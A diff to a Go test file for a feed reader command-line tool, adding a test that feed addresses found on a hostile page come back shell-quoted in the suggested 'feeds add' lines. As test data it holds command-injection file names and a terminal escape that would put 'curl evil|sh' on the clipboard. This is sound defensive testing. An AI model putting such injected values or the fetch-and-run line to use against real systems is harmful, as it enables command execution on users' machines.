@@ -14,6 +14,7 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"os"
+	"os/exec"
 	"strconv"
 	"strings"
 	"testing"
@@ -368,5 +369,71 @@ func TestHostileServerWordsInErrors(t *testing.T) {
 			}
 			t.Logf("\n%s%s", r.stdout, r.stderr)
 		})
+	}
+}
+
+// A page may advertise feeds at addresses built to run commands when its
+// suggestion line is pasted into a shell, with titles full of escapes: the
+// line `feeds add` prints quotes the address so that a shell reads it back
+// as that one word, and runs nothing.
+func TestDiscoveredFeedSuggestionsAreShellSafe(t *testing.T) {
+	if _, err := exec.LookPath("sh"); err != nil {
+		t.Skip("needs sh")
+	}
+	hostile := []string{
+		"/a';touch pwned1;'.xml",
+		"/b$(touch${IFS}pwned2).xml",
+		"/c\";touch pwned3;\".xml",
+		"/d|touch${IFS}pwned4&.xml",
+	}
+	mux := http.NewServeMux()
+	mux.HandleFunc("/feed.xml", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/rss+xml")
+		w.Write([]byte(rssDoc("Good", "One story")))
+	})
+	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		fmt.Fprint(w, `<!DOCTYPE html><html><head><title>Site</title>
+<link rel="alternate" type="application/rss+xml" title="Good" href="/feed.xml">`)
+		for i, h := range hostile {
+			fmt.Fprintf(w, `<link rel="alternate" type="application/rss+xml" title="Feed %d &#x1b;]52;c;Y3VybCBldmlsfHNo&#x7; &#x202e;evil" href="%s">`+"\n", i, html.EscapeString(h))
+		}
+		fmt.Fprint(w, `</head><body></body></html>`)
+	})
+	srv := httptest.NewServer(mux)
+	t.Cleanup(srv.Close)
+	e := newFeedsEnv(t, "")
+	r := e.run(t, "", "feeds", "add", srv.URL+"/")
+	if r.code != 0 {
+		t.Fatalf("feeds add: %d %s%s", r.code, r.stdout, r.stderr)
+	}
+	assertSafe(t, "feeds add", r.stdout+r.stderr)
+	dir := t.TempDir()
+	n := 0
+	for _, line := range strings.Split(r.stdout, "\n") {
+		cmdline, ok := strings.CutPrefix(line, "  tidings feeds add ")
+		if !ok {
+			continue
+		}
+		n++
+		// What a shell makes of the pasted line, with echo standing in
+		// for tidings.
+		sh := exec.Command("sh", "-c", "printf '%s\\n' "+cmdline)
+		sh.Dir = dir
+		out, err := sh.Output()
+		if err != nil {
+			t.Errorf("sh on %q: %v", cmdline, err)
+			continue
+		}
+		words := strings.Split(strings.TrimSuffix(string(out), "\n"), "\n")
+		if len(words) != 1 || !strings.HasPrefix(words[0], srv.URL+"/") {
+			t.Errorf("a shell reads %q as %q, want one address", cmdline, words)
+		}
+	}
+	if n != len(hostile) {
+		t.Errorf("%d suggestions, want %d:\n%s", n, len(hostile), r.stdout)
+	}
+	if entries, _ := os.ReadDir(dir); len(entries) != 0 {
+		t.Errorf("pasting the suggestions ran commands: %v", entries)
 	}
 }
